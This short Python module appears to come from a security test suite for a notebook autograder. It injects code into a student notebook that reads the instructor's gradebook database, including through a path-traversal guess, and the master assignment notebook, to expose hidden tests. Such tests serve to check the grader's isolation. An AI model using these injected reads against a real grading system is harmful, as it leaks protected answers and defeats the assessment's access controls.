"""Looks for the hidden tests in the gradebook and in the masters."""

from attacks.tools import before


def attack(notebook, folder, school):
    before(
        notebook,
        f"""
    import glob, sqlite3
    for path in [{str(school.root / "gradebook.db")!r}, '../../../gradebook.db']:
        try:
            for row in sqlite3.connect(f'file:{{path}}?mode=ro', uri=True).execute('select source from source_cell'): print(row)
        except Exception as error: print(type(error))
    for path in [{str(school.root / "source/ps1/p1.ipynb")!r}]:
        try: print(open(path).read())
        except OSError as error: print(type(error))
    """,
    )
